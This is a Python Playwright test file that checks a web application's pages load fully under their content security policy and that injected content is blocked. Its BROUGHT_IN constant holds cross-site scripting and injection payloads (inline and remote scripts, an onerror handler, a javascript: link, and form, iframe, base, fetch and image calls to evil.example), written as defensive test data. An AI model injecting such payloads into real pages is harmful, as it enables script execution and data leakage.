"""Every page in a real browser under its content security policy: all of it works, and what was brought in does not."""

from __future__ import annotations

from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, Page

from tests.browser.desk_windows import Windows
from tests.browser.test_incident import begin
from tests.running import Running, eventually

pytestmark = pytest.mark.browser
REMEMBER = """window.broken = []; addEventListener('securitypolicyviolation', (event) =>
  window.broken.push([event.effectiveDirective, event.blockedURI, event.sourceFile, event.lineNumber]), true)"""
PAINTED = "document.querySelectorAll('canvas').length && document.querySelectorAll('.js-plotly-plot').length"
#: What another's text could try, once it stands in a page.
BROUGHT_IN = """() => {
  window.ran = [];
  const script = document.createElement('script');
  script.textContent = "window.ran.push('inline script')";
  const foreign = document.createElement('script');
  foreign.src = 'https://evil.example/x.js';
  const text = document.createElement('script');
  text.src = "data:text/javascript,window.ran.push('data script')";
  const place = document.createElement('div');
  place.innerHTML = `<img src="x" onerror="window.ran.push('handler')">
    <a href="javascript:window.ran.push('link')">a</a>
    <form action="https://evil.example/"><button>b</button></form>
    <iframe src="https://evil.example/"></iframe><base href="https://evil.example/">
    <i style="background: url(https://evil.example/x.png)">c</i>`;
  document.body.append(script, foreign, text, place);
  place.querySelector('a').click();
  place.querySelector('button').click();
  // Later, when it is the page's own doing and no longer that of the test.
  setTimeout("window.ran.push('text')", 0);
  setTimeout(() => new Function("window.ran.push('function')")(), 0);
  fetch('https://evil.example/').catch(() => undefined);
  new Image().src = 'https://evil.example/x.png';
}"""
REFUSED = {
    "script-src-elem",
    "script-src-attr",
    "script-src",
    "form-action",
    "connect-src",
    "img-src",
    "style-src-attr",
}


@pytest.fixture(scope="module")
def page(browser: Browser, rtcc_up: Running) -> Iterator[Page]:
    """A window in which an administrator is signed in, who may open every page."""
    begin(rtcc_up, "policy-1")
    windows = Windows(browser)
    page = windows.desk(rtcc_up, "/assets/icon.svg", "Chief Oduya", "admin")
    page.add_init_script(REMEMBER)
    yield page
    windows.close()


def broken(page: Page) -> list[list[object]]:
    """Return what the policy refused since the page began."""
    refused: list[list[object]] = page.evaluate("window.broken")
    return refused


@pytest.mark.parametrize(
    ("path", "ready"),
    [
        ("/wall?tour=0", '#wall[data-map="ready"][data-link="live"]'),
        ("/dispatch", '#dispatch[data-map="ready"][data-queues="ready"][data-link="live"]'),
        ("/supervisor", '#supervisor[data-map="ready"][data-link="live"]'),
        ("/incident/policy-1", '#incident[data-map="ready"][data-link="live"]'),
        ("/admin", '[data-link="live"]'),
    ],
)
def test_a_page_paints_its_map_and_charts_under_its_policy(page: Page, rtcc_up: Running, path: str, ready: str) -> None:
    """Nothing that it needs is refused, to the last worker and stylesheet."""
    page.goto(f"{rtcc_up.address}{path}")
    page.wait_for_selector(ready, state="attached")
    if path != "/admin":
        page.wait_for_function(PAINTED)
    assert broken(page) == []
    assert page.errors == []  # type: ignore[attr-defined]


def test_the_officers_map_comes_under_its_policy(page: Page, rtcc_up: Running) -> None:
    """It is fetched when somebody asks for it, long after the page."""
    page.goto(f"{rtcc_up.address}/officer#map")
    page.get_by_role("button", name="Load the map").click()
    page.wait_for_selector('#stage[data-map="ready"]')
    assert broken(page) == []


@pytest.mark.parametrize("path", ["/login", "/account", "/admin/people", "/admin/devices", "/admin/audit"])
def test_a_plain_page_needs_nothing_else(page: Page, rtcc_up: Running, path: str) -> None:
    """Styled and with its program, under the strictest policy."""
    page.goto(f"{rtcc_up.address}{path}")
    assert page.evaluate("getComputedStyle(document.body).margin") == "0px"
    assert broken(page) == []
    assert page.errors == []  # type: ignore[attr-defined]


@pytest.mark.parametrize("path", ["/officer", "/login"])
def test_what_is_brought_into_a_page_runs_nothing_and_reaches_nobody(page: Page, rtcc_up: Running, path: str) -> None:
    """No script, handler, link or text becomes a program; no form, picture, frame or question leaves for elsewhere."""
    page.goto(f"{rtcc_up.address}{path}")
    why: list[str | None] = []
    page.on("requestfailed", lambda request: why.append(request.failure) if "evil" in request.url else None)
    page.evaluate(BROUGHT_IN)
    seen = eventually(lambda: _all_of(page, REFUSED), why="the policy has refused each of them")
    assert "frame-src" in seen
    assert "base-uri" in seen
    assert page.evaluate("window.ran") == []
    assert set(why) == {"csp"}


def _all_of(page: Page, wanted: set[str]) -> set[str] | None:
    page.wait_for_timeout(20)
    seen = {str(directive) for directive, *_ in broken(page)}
    return seen if wanted <= seen else None
